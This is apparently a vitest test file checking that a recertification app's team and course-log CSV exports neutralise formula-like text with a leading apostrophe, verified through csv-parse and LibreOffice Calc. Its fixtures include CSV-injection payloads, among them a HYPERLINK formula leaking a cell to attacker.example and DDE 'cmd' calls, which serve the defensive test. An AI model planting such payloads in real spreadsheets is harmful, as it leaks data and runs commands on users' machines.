// Text that starts like a formula (=, +, -, @) in a person's name, a course's title or a provider
// becomes text, not a formula, in the team CSV and the course-log CSV: written with a leading
// apostrophe (OWASP's advice), and checked by opening both files in LibreOffice Calc (headless, as a
// spreadsheet user would) and with csv-parse.
import { spawnSync } from 'node:child_process';
import { readFileSync, rmSync } from 'node:fs';
import { basename, join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { sheetCell } from '../../main/core/csv/write';
import { freshContext, tempDir } from '../helpers/context';
import { valueNow } from '../helpers/results';

const context = freshContext({ today: '2026-11-23' });
const converted = tempDir('recert-csv-injection-');
afterAll(() => {
  context.dispose();
  rmSync(converted, { recursive: true, force: true });
});

const FORMULAS = {
  name: '=HYPERLINK("http://attacker.example/?leak="&A1,"Dana")',
  employeeId: '+1+cmd|/C calc!A0',
  number: '-2+3',
  title: '@SUM(1+1)*cmd|/C calc!A0',
  provider: '=1+2',
  approvalCode: '-1',
};

function call<T>(method: string, input: unknown): T {
  return valueNow<T>(context.dispatch(method, input));
}

/** Each cell of the first sheet of a flat ODF spreadsheet: its text and whether Calc made it a formula. */
function calcCells(fods: string): { text: string; formula: boolean }[] {
  const decode = (xml: string) =>
    xml
      .replace(/<[^>]+>/g, '')
      .replace(/&apos;/g, "'")
      .replace(/&quot;/g, '"')
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>')
      .replace(/&amp;/g, '&');
  return [...fods.matchAll(/<table:table-cell([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)].map((m) => ({
    text: decode(m[2] ?? '').trim(),
    formula: /table:formula=/.test(m[1] ?? ''),
  }));
}

describe('CSV injection', () => {
  it('formula-like text reads back as the same text, in LibreOffice Calc and csv-parse', async () => {
    const person = call<{ id: string }>('createPerson', { name: FORMULAS.name, employeeId: FORMULAS.employeeId });
    const credential = call<{ id: string }>('createCredential', {
      personId: person.id,
      ruleSet: 'nasm-cpt',
      number: FORMULAS.number,
      expires: '2027-03-31',
    });
    call('createCourse', {
      personId: person.id,
      title: FORMULAS.title,
      provider: FORMULAS.provider,
      approvalCode: FORMULAS.approvalCode,
      approval: 'nasm',
      completed: '2026-02-01',
      ceus: 1,
      credentialIds: [credential.id],
    });
    const team = (await context.service.exportTeamReport({ format: 'csv', asOf: '2026-11-23' }))?.savedTo ?? '';
    const log = (await context.service.exportCourseLogCsv({ personId: person.id }))?.savedTo ?? '';
    expect(team).toMatch(/\.csv$/);
    expect(log).toMatch(/\.csv$/);

    // csv-parse: each formula-like value is there with its apostrophe in front, nothing else changed.
    const parsed = [team, log].map((file) => parse(readFileSync(file, 'utf8'), { bom: true }) as string[][]);
    const cells = parsed.flat(2);
    for (const value of [FORMULAS.name, FORMULAS.employeeId, FORMULAS.number]) expect(parsed[0]?.flat()).toContain(`'${value}`);
    for (const value of [FORMULAS.title, FORMULAS.provider, FORMULAS.approvalCode]) expect(parsed[1]?.flat()).toContain(`'${value}`);
    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
    // A negative number stays a number (days to expiration of an expired credential, say).
    expect(sheetCell(-12)).toBe('-12');

    // LibreOffice Calc opens both files as a person would (formulas evaluated): not one formula, and
    // every cell's text is the text written.
    const result = spawnSync(
      'soffice',
      [
        '--headless',
        '--norestore',
        `-env:UserInstallation=file://${join(converted, 'profile')}`,
        '--infilter=CSV:44,34,76,1',
        '--convert-to',
        'fods',
        '--outdir',
        converted,
        team,
        log,
      ],
      { encoding: 'utf8', timeout: 120_000 },
    );
    expect(result.status, `${result.stdout}${result.stderr}`).toBe(0);
    for (const [i, file] of [team, log].entries()) {
      const sheet = calcCells(readFileSync(join(converted, basename(file).replace(/\.csv$/, '.fods')), 'utf8'));
      expect(sheet.filter((cell) => cell.formula)).toEqual([]);
      const texts = sheet.map((cell) => cell.text);
      for (const value of i === 0 ? [FORMULAS.name, FORMULAS.employeeId, FORMULAS.number] : [FORMULAS.title, FORMULAS.provider])
        expect(texts).toContain(`'${value}`);
    }
  });

  it('tab and carriage return at the start are neutralised too; plain text, numbers and dates are not', () => {
    expect(['\tx', '\rx', '=x', '+x', '-x', '@x'].map(sheetCell)).toEqual(["'\tx", "'\rx", "'=x", "'+x", "'-x", "'@x"]);
    expect(['Dana Rivera', '2026-02-01', 'a=b', 1.5, true, null].map(sheetCell)).toEqual([
      'Dana Rivera',
      '2026-02-01',
      'a=b',
      '1.5',
      'true',
      '',
    ]);
  });
});
